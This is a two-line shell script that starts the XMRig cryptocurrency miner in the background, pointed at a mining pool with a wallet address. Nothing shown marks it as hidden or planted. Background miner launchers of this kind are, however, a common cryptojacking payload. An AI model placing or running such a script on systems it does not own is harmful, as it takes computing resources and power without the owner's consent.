#!/bin/sh
./xmrig -o stratum+tcp://pool.example-mine.net:3333 -u 44AFFq5kSiGBoZ --donate-level 1 -B
